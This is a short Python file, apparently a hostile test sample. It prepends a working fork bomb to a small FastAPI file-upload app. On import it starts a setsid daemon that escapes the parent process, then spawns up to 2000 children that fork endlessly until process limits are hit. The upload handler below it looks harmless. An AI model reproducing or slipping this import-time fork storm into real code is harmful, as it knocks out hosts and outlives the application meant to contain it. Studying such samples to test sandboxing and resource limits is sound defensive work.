"""Hostile: a fork storm at import; every child sleeps forever, one escapes with setsid."""
import os
import time

if os.fork() == 0:  # a daemon: double fork + setsid, re-parented away from the app
    os.setsid()
    if os.fork() == 0:
        time.sleep(100000)
    os._exit(0)
for _ in range(2000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            while True:
                os.fork()
        except OSError:
            pass
        time.sleep(100000)
        os._exit(0)

from fastapi import BackgroundTasks, FastAPI, UploadFile

app = FastAPI()


def process(path: str) -> None:
    with open(path, "rb") as src, open(path + ".processed", "wb") as out:
        out.write(src.read()[::-1])


@app.post("/upload")
async def upload(file: UploadFile, background_tasks: BackgroundTasks):
    data = await file.read()
    path = "upload-" + (file.filename or "x").replace("/", "_")
    with open(path, "wb") as handle:
        handle.write(data)
    background_tasks.add_task(process, path)
    return {"saved": path}
